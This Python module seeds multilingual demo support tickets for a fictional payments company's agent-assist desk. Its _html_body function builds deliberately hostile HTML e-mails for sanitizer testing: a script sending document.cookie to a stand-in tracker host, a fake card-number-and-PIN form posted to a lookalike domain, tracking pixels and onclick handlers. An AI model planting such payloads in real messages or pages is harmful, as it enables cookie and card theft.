"""Seeded demo data: the support desk of "Lumo Pay", a fictional buy-now-pay-later company.

Everything is plain data built from ``resources/demo/articles.json`` (knowledge base)
and ``resources/demo/tickets.json`` (ticket templates per topic and language, customer
names, merchants). The same ``seed`` and ``now`` always give the same output: only a
private ``random.Random`` is used, and nothing depends on set or hash order.

``generate()`` returns ``{"articles": [...], "customers": [...], "tickets": [...]}`` in
the shape :func:`agent_assist.store.bulk.import_dataset` takes; ``new_arrival()`` makes
one fresh inbound ticket for the live "new tickets keep coming in" demo.
"""

from __future__ import annotations

import html
import json
import random
import re
import unicodedata
from datetime import UTC, datetime, timedelta
from functools import cache
from pathlib import Path
from typing import Any

LANGUAGES = ("en", "sv", "de", "es", "fr", "nl")
AGENTS = ("alex", "sam", "priya", "jonas")  # agent handles; a ticket's assignee is one of these or None
SUPERVISOR = "priya"  # the demo team's supervisor (four-eyes approvals)

ISO_FORMAT = "%Y-%m-%dT%H:%M:%SZ"
SLA_TARGETS = {"urgent": timedelta(hours=2), "high": timedelta(hours=8),
               "normal": timedelta(hours=24), "low": timedelta(hours=72)}

_LANGUAGE_WEIGHTS = (30, 14, 14, 14, 14, 14)  # English ~30 %, the others share the rest
_STATUS_WEIGHTS = (("new", 20), ("open", 30), ("pending", 15), ("solved", 25), ("closed", 10))
_CHANNEL_WEIGHTS = (("email", 50), ("chat", 25), ("web", 20), ("phone", 5))
_HTML_SHARE = 0.075  # of inbound e-mail/web messages, i.e. roughly 5 % of all inbound messages
_WINDOW = timedelta(days=30)
_SLOT = re.compile(r"\{(order|amount|merchant|date|first_name)\}")

# English-speaking customers: (e-mail domain, currency) and how common each is.
_EN_COUNTRIES = ((("example.co.uk", "GBP"), 50), (("example.com", "USD"), 30), (("example.ie", "EUR"), 20))
_DOMAINS = {"sv": "example.se", "de": "example.de", "es": "example.es", "fr": "example.fr", "nl": "example.nl"}
_CURRENCY = {"sv": "SEK", "de": "EUR", "es": "EUR", "fr": "EUR", "nl": "EUR"}

_MONTHS = {
    "en": ("January", "February", "March", "April", "May", "June", "July", "August", "September",
           "October", "November", "December"),
    "sv": ("januari", "februari", "mars", "april", "maj", "juni", "juli", "augusti", "september",
           "oktober", "november", "december"),
    "de": ("Januar", "Februar", "März", "April", "Mai", "Juni", "Juli", "August", "September",
           "Oktober", "November", "Dezember"),
    "es": ("enero", "febrero", "marzo", "abril", "mayo", "junio", "julio", "agosto", "septiembre",
           "octubre", "noviembre", "diciembre"),
    "fr": ("janvier", "février", "mars", "avril", "mai", "juin", "juillet", "août", "septembre",
           "octobre", "novembre", "décembre"),
    "nl": ("januari", "februari", "maart", "april", "mei", "juni", "juli", "augustus", "september",
           "oktober", "november", "december"),
}

# How customers sign an e-mail that doesn't already carry their name ({name} is the first name).
_CUSTOMER_SIGNOFFS = {
    "en": ("Thanks,\n{name}", "{name}", "Cheers,\n{name}", "Regards,\n{name}", "Thanks in advance"),
    "sv": ("Mvh {name}", "Tack!\n{name}", "/{name}", "Hälsningar\n{name}"),
    "de": ("Viele Grüße\n{name}", "Gruß {name}", "LG {name}", "Danke\n{name}"),
    "es": ("Gracias,\n{name}", "Un saludo,\n{name}", "Saludos", "{name}"),
    "fr": ("Merci,\n{name}", "Cordialement,\n{name}", "Bonne journée", "{name}"),
    "nl": ("Groetjes,\n{name}", "Mvg {name}", "Groet,\n{name}", "Alvast bedankt"),
}

# Agent signature on e-mail, web-form and phone follow-up replies ({name} is the agent).
_AGENT_SIGNATURES = {
    "en": "Best regards,\n{name}\nLumo Pay Customer Support",
    "sv": "Vänliga hälsningar\n{name}\nLumo Pay kundservice",
    "de": "Viele Grüße\n{name}\nLumo Pay Kundenservice",
    "es": "Un saludo,\n{name}\nAtención al cliente de Lumo Pay",
    "fr": "Cordialement,\n{name}\nService client Lumo Pay",
    "nl": "Met vriendelijke groet,\n{name}\nKlantenservice Lumo Pay",
}


# -- resources ------------------------------------------------------------------------------
def _resource_dir() -> Path:
    try:
        from importlib.resources import files
        p = Path(str(files("agent_assist.resources") / "demo"))
        if p.is_dir():
            return p
    except (ModuleNotFoundError, TypeError):
        pass
    return Path(__file__).resolve().parents[2] / "resources" / "demo"


@cache
def _load(name: str) -> Any:
    return json.loads((_resource_dir() / name).read_text(encoding="utf-8"))


def _templates() -> dict[str, Any]:
    return _load("tickets.json")


def load_articles() -> list[dict]:
    """The demo knowledge base: ``articles.json`` entries plus ``source`` and ``url``."""
    return [{**a, "source": "demo", "url": None} for a in _load("articles.json")]


# -- small helpers --------------------------------------------------------------------------
def _iso(dt: datetime) -> str:
    return dt.astimezone(UTC).strftime(ISO_FORMAT)


def _utc(now: datetime | None) -> datetime:
    if now is None:
        now = datetime.now(UTC)
    elif now.tzinfo is None:
        now = now.replace(tzinfo=UTC)
    return now.astimezone(UTC).replace(microsecond=0)


def _pick(rng: random.Random, weighted: tuple[tuple[Any, int], ...] | list[tuple[Any, int]]) -> Any:
    items = [item for item, _ in weighted]
    return rng.choices(items, weights=[w for _, w in weighted])[0]


def _ascii(text: str) -> str:
    text = text.lower().replace("ß", "ss").replace("ø", "o").replace("æ", "ae").replace("ı", "i")
    text = unicodedata.normalize("NFKD", text)
    return re.sub(r"[^a-z0-9]", "", text.encode("ascii", "ignore").decode())


def _format_amount(rng: random.Random, currency: str) -> str:
    band = rng.choices((0, 1, 2), weights=(50, 35, 15))[0]
    value = (rng.uniform(12, 80), rng.uniform(80, 300), rng.uniform(300, 1500))[band]
    if currency == "SEK":
        kronor = int(value * 10.5) // 10 * 10 + rng.choice((0, 9, 9))
        text = f"{kronor:,}".replace(",", " ")
        return f"{text} SEK"
    cents = rng.choice((0, 90, 95, 99, 50))
    return f"{int(value)}.{cents:02d} {currency}"


def _localize_amount(amount: str, language: str) -> str:
    """Continental languages write 49,90 EUR; English and Swedish strings are left alone."""
    if language in ("de", "es", "fr", "nl"):
        return amount.replace(".", ",")
    return amount


def _format_date(day: datetime, language: str) -> str:
    month = _MONTHS[language][day.month - 1]
    if language == "de":
        return f"{day.day}. {month}"
    if language == "es":
        return f"{day.day} de {month}"
    if language == "fr" and day.day == 1:
        return f"1er {month}"
    return f"{day.day} {month}"


def _fill(text: str, slots: dict[str, str]) -> str:
    return _SLOT.sub(lambda m: slots[m.group(1)], text)


# -- customers ------------------------------------------------------------------------------
def _new_person(rng: random.Random, language: str, used_emails: set[str], *, arrival: bool = False) -> dict:
    names = _templates()["names"][language]
    first, last = rng.choice(names["first"]), rng.choice(names["last"])
    if language == "en":
        domain, currency = _pick(rng, _EN_COUNTRIES)
    else:
        domain, currency = _DOMAINS[language], _CURRENCY[language]
    f, l_ = _ascii(first), _ascii(last)
    style = rng.choices(range(5), weights=(45, 15, 15, 15, 10))[0]
    local = (f"{f}.{l_}", f"{f}{l_}", f"{f[0]}.{l_}", f"{f}.{l_}{rng.randint(60, 99)}", f"{f}_{l_}")[style]
    if arrival:  # live arrivals should not collide with the seeded customers
        local = f"{local}{rng.randint(100, 9999)}"
    email, n = f"{local}@{domain}", 2
    while email in used_emails:
        email, n = f"{local}{n}@{domain}", n + 1
    used_emails.add(email)
    return {"name": f"{first} {last}", "email": email, "language": language,
            "_first": first, "_currency": currency}


# -- HTML e-mail versions (deliberately hostile, for the sanitizer) -------------------------
def _html_body(rng: random.Random, text: str, language: str) -> str:
    paras = "\n".join(
        f'<p style="margin:0 0 12px 0;font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222">'
        f'{html.escape(p).replace(chr(10), "<br>")}</p>'
        for p in text.split("\n\n")
    )
    token = f"{rng.getrandbits(48):012x}"
    pixel = f'<img src="https://tracker.example.com/p.gif" width="1" height="1" alt="" data-id="{token}">'
    script = ('<script type="text/javascript">(function(){var i=new Image();'
              f'i.src="https://tracker.example.com/c?id={token}&c="+encodeURIComponent(document.cookie);'
              '})();</script>')
    form = ('<form action="https://secure-lumopay.example.net/verify" method="post" '
            'style="border:1px solid #ccc;padding:8px">'
            '<input type="text" name="card_number" placeholder="Card number">'
            '<input type="password" name="pin" placeholder="PIN">'
            '<button type="submit" onclick="this.form.submit()">Confirm</button></form>')
    link = ('<a href="https://shop.example.org/order-status" '
            f'onclick="window.open(\'https://tracker.example.com/click?id={token}\')" '
            'style="color:#1a73e8">View my order</a>')
    variant = rng.randrange(3)
    if variant == 0:  # Outlook-style
        return (f'<html><head><meta charset="utf-8"><style>p.MsoNormal{{margin:0}}</style>{script}</head>'
                f'<body lang="{language}" style="word-wrap:break-word">'
                f'<div class="WordSection1" style="font-family:Calibri,sans-serif;font-size:11pt">\n{paras}\n'
                f'<p style="font-size:9pt;color:#888">{link}</p>{form}</div>{pixel}</body></html>')
    if variant == 1:  # Gmail-style fragment
        return (f'<div dir="ltr"><div style="font-family:Arial,sans-serif">\n{paras}\n</div>'
                f'<div class="gmail_signature" style="color:#777">{link}</div>{pixel}{form}{script}</div>')
    # Mobile mail client with a newsletter-ish footer
    return (f'<!DOCTYPE html><html><body style="margin:0;padding:16px;background:#f5f5f5">'
            f'<table role="presentation" width="100%" style="background:#fff"><tr><td style="padding:16px">\n{paras}\n'
            f'</td></tr><tr><td style="font-size:11px;color:#999" onclick="track(\'{token}\')">Sent from my phone · '
            f'{link}</td></tr></table>{form}{pixel}{script}</body></html>')


# -- one ticket -----------------------------------------------------------------------------
def _topic_weights() -> list[tuple[str, int]]:
    return [(name, t["weight"]) for name, t in _templates()["topics"].items()]


def _slots(rng: random.Random, topic: dict, person: dict, created: datetime) -> dict[str, str]:
    language = person["language"]
    if topic.get("date") == "future":
        day = created + timedelta(days=rng.randint(2, 14))
    else:
        day = created - timedelta(days=rng.randint(2, 20))
    return {
        "order": f"LP{rng.randint(10_000_000, 99_999_999)}",
        "amount": _localize_amount(_format_amount(rng, person["_currency"]), language),
        "merchant": rng.choice(_templates()["merchants"]),
        "date": _format_date(day, language),
        "first_name": person["_first"],
    }


def _customer_text(rng: random.Random, template: str, slots: dict[str, str], language: str, channel: str) -> str:
    text = _fill(template, slots)
    if channel in ("email", "web") and "{first_name}" not in template and rng.random() < 0.35:
        text += "\n\n" + rng.choice(_CUSTOMER_SIGNOFFS[language]).format(name=slots["first_name"])
    return text


def _agent_text(template: str, slots: dict[str, str], language: str, channel: str, agent: str) -> str:
    text = _fill(template, slots)
    if channel != "chat":
        text += "\n\n" + _AGENT_SIGNATURES[language].format(name=agent.capitalize())
    return text


def _shape(rng: random.Random, status: str) -> list[str]:
    """The thread as a list of kinds: opening, chaser, followup, agent, resolution."""
    if status == "new":
        return ["opening"] if rng.random() < 0.85 else ["opening", "chaser"]
    if status == "open":
        return _pick(rng, ((["opening"], 20), (["opening", "agent", "followup"], 52),
                           (["opening", "agent", "followup", "chaser"], 10),
                           (["opening", "agent", "followup", "agent", "followup"], 18)))
    if status == "pending":
        return _pick(rng, ((["opening", "agent"], 55), (["opening", "agent", "followup", "agent"], 35),
                           (["opening", "agent", "followup", "agent", "followup", "agent"], 10)))
    return _pick(rng, ((["opening", "resolution"], 40), (["opening", "agent", "followup", "resolution"], 45),
                       (["opening", "agent", "followup", "agent", "followup", "resolution"], 15)))


def _gap(rng: random.Random, kind: str, channel: str) -> float:
    """Seconds between the previous message and one of this kind."""
    if channel == "chat":
        return rng.uniform(40, 900)
    if kind in ("agent", "resolution"):
        return rng.uniform(20 * 60, 18 * 3600)
    if kind == "chaser":
        return rng.uniform(4 * 3600, 30 * 3600)
    return rng.uniform(10 * 60, 36 * 3600)


def _age(rng: random.Random, status: str, target: timedelta, mode: str | None) -> timedelta:
    """How long ago a ticket was created; ``mode`` places new/open tickets around their SLA."""
    hour = timedelta(hours=1)
    if status in ("new", "open"):
        if mode is None:
            mode = _pick(rng, (("due_soon", 5), ("fresh", 52), ("overdue", 43)) if status == "new"
                         else (("due_soon", 4), ("fresh", 38), ("overdue", 58)))
        if mode == "due_soon":
            return target - timedelta(minutes=rng.uniform(5, 55))
        if mode == "fresh":
            return max(timedelta(minutes=8), target * rng.uniform(0.02, 0.85))
        extra = rng.uniform(0.1, 72 if status == "new" else 150) * hour
        return min(target + extra, _WINDOW - hour)
    if status == "pending":
        return rng.uniform(3, 8 * 24) * hour
    if status == "solved":
        return rng.uniform(6, 26 * 24) * hour
    return rng.uniform(5 * 24, 30 * 24 - 1) * hour  # closed


def _ticket(rng: random.Random, person: dict, now: datetime, *, status: str, mode: str | None = None,
            repeat: bool = False, arrival: bool = False) -> dict:
    data = _templates()
    topic_name = _pick(rng, _topic_weights())
    topic = data["topics"][topic_name]
    language = person["language"]
    lang = topic["languages"][language]
    priority = _pick(rng, list(topic["priority"].items()))
    channel = _pick(rng, _CHANNEL_WEIGHTS)
    target = SLA_TARGETS[priority]
    age = timedelta(0) if arrival else _age(rng, status, target, mode)
    created = now - timedelta(seconds=int(age.total_seconds()))
    slots = _slots(rng, topic, person, created)

    kinds = ["opening"] if arrival else _shape(rng, status)
    assignee = None
    if not arrival and (status != "new" or rng.random() < 0.1):
        assignee = rng.choice(AGENTS)

    # Message times: realistic gaps, squeezed to fit between creation and now.
    gaps = [_gap(rng, k, channel) for k in kinds[1:]]
    room = max(0.0, (now - created).total_seconds() - 60)
    if sum(gaps) > room:
        scale = room * rng.uniform(0.6, 0.95) / sum(gaps)
        gaps = [g * scale for g in gaps]
    times = [created]
    for g in gaps:
        times.append(times[-1] + timedelta(seconds=max(1, int(g))))

    pools = {k: rng.sample(lang[k], len(lang[k])) for k in ("agent_replies", "followups", "resolutions")}
    chasers = data["chasers"][language]

    def take(key: str) -> str:
        pool = pools[key]
        return pool.pop(0) if len(pool) > 1 else pool[0]

    messages = []
    for kind, at in zip(kinds, times, strict=True):
        if kind in ("agent", "resolution"):
            template = take("agent_replies" if kind == "agent" else "resolutions")
            messages.append({"direction": "outbound", "author": assignee,
                             "body_text": _agent_text(template, slots, language, channel, assignee),
                             "body_html": None, "created_at": _iso(at)})
            continue
        template = {"opening": lambda: rng.choice(lang["openings"]),
                    "followup": lambda: take("followups"),
                    "chaser": lambda: rng.choice(chasers)}[kind]()
        text = _customer_text(rng, template, slots, language, channel)
        body_html = None
        if channel in ("email", "web") and rng.random() < _HTML_SHARE:
            body_html = _html_body(rng, text, language)
        messages.append({"direction": "inbound", "author": person["name"], "body_text": text,
                         "body_html": body_html, "created_at": _iso(at)})

    tags = list(topic["tags"])
    if repeat:
        tags.append("repeat-contact")
    if priority == "urgent" and "escalated" not in tags and rng.random() < 0.5:
        tags.append("escalated")
    return {
        "subject": _fill(rng.choice(lang["subjects"]), slots),
        "topic": topic_name,
        "status": status,
        "priority": priority,
        "channel": channel,
        "language": language,
        "assignee": assignee,
        "sla_due_at": _iso(created + target),
        "tags": tags,
        "created_at": _iso(created),
        "updated_at": messages[-1]["created_at"],
        "messages": messages,
    }


# -- public API -----------------------------------------------------------------------------
def generate(seed: int = 7, tickets: int = 360, now: datetime | None = None) -> dict:
    """A whole demo data set: knowledge base, customers and ``tickets`` tickets from the last ~30 days."""
    if tickets < 0:
        raise ValueError("tickets must be zero or more")
    now = _utc(now)
    rng = random.Random(seed)
    n_customers = min(tickets, max(1, round(tickets * 0.7))) if tickets else 0

    used: set[str] = set()
    people = [_new_person(rng, rng.choices(LANGUAGES, weights=_LANGUAGE_WEIGHTS)[0], used)
              for _ in range(n_customers)]
    owners = list(range(n_customers)) + [rng.randrange(n_customers) for _ in range(tickets - n_customers)]
    rng.shuffle(owners)
    counts = [0] * n_customers
    for ref in owners:
        counts[ref] += 1

    statuses = [_pick(rng, _STATUS_WEIGHTS) for _ in range(tickets)]
    # Make sure the queue always shows a realistic SLA picture: some new/open tickets are
    # about to breach (within the hour) and plenty are comfortably ahead of their target.
    forced = ["due_soon"] * 3 + ["fresh"] * 10
    made = []
    for ref, status in zip(owners, statuses, strict=True):
        mode = forced.pop(0) if status in ("new", "open") and forced else None
        t = _ticket(rng, people[ref], now, status=status, mode=mode, repeat=counts[ref] > 1)
        made.append({"customer_ref": ref, **t})
    made.sort(key=lambda t: t["created_at"])

    customers = [{"ref": i, "name": p["name"], "email": p["email"], "language": p["language"]}
                 for i, p in enumerate(people)]
    return {"articles": load_articles(), "customers": customers, "tickets": made}


def new_arrival(rng: random.Random, now: datetime | None = None) -> dict:
    """One brand-new inbound ticket (status ``new``, a single message, created ``now``)."""
    now = _utc(now)
    person = _new_person(rng, rng.choices(LANGUAGES, weights=_LANGUAGE_WEIGHTS)[0], set(), arrival=True)
    t = _ticket(rng, person, now, status="new", arrival=True)
    customer = {"name": person["name"], "email": person["email"], "language": person["language"]}
    return {"customer": customer, **t}


def draft_history(replies: list[dict], *, seed: int = 7) -> list[dict]:
    """Drafts behind the demo's sent agent replies, so review and the quality dashboard have a past.

    ``replies`` are ``{"ticket_id", "message_id", "author", "body", "created_at"}`` for outbound
    messages. About half went out as suggested; the rest were edited (a sentence added, cut
    or reworded) — the kind of trace real agents leave.
    """
    rng = random.Random(seed)
    additions = ("I have also checked your account and everything else looks fine.",
                 "Sorry for the trouble this has caused.",
                 "Let me know if you have any other questions.")
    rows = []
    for r in replies:
        body = r["body"]
        sentences = [s for s in body.replace("\n", " \n ").split(". ") if s.strip()]
        roll = rng.random()
        if roll < 0.5 or len(sentences) < 2:
            original = body
        elif roll < 0.75:
            original = body + "\n\n" + rng.choice(additions)  # the agent cut a sentence
        else:
            original = ". ".join(sentences[:-1]) + "."  # the agent added the last sentence
        sent_at = datetime.fromisoformat(r["created_at"].replace("Z", "+00:00"))
        created = sent_at - timedelta(minutes=rng.randint(2, 45))
        rows.append({
            "ticket_id": r["ticket_id"], "state": "sent", "source": rng.choice(("offline", "ai", "ai")),
            "original_body": original, "body": body, "citations": "[]",
            "provider": None, "model": None, "prompt_version": "demo",
            "created_by": r["author"], "approved_by": r["author"],
            "created_at": _iso(created), "updated_at": r["created_at"],
        })
    return rows
